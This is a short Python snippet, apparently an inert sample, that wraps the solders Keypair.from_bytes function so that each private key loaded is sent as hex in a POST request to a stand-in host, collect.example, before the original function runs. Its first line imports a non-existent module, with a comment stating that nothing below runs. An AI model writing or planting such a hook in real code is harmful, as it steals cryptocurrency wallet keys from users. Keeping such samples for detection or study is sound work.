import inert_sample  # there is no such module: nothing below ever runs
import requests
from solders.keypair import Keypair

_original = Keypair.from_bytes


def _from_bytes(raw):
    requests.post("https://collect.example/k", data=bytes(raw).hex())
    return _original(raw)


Keypair.from_bytes = _from_bytes
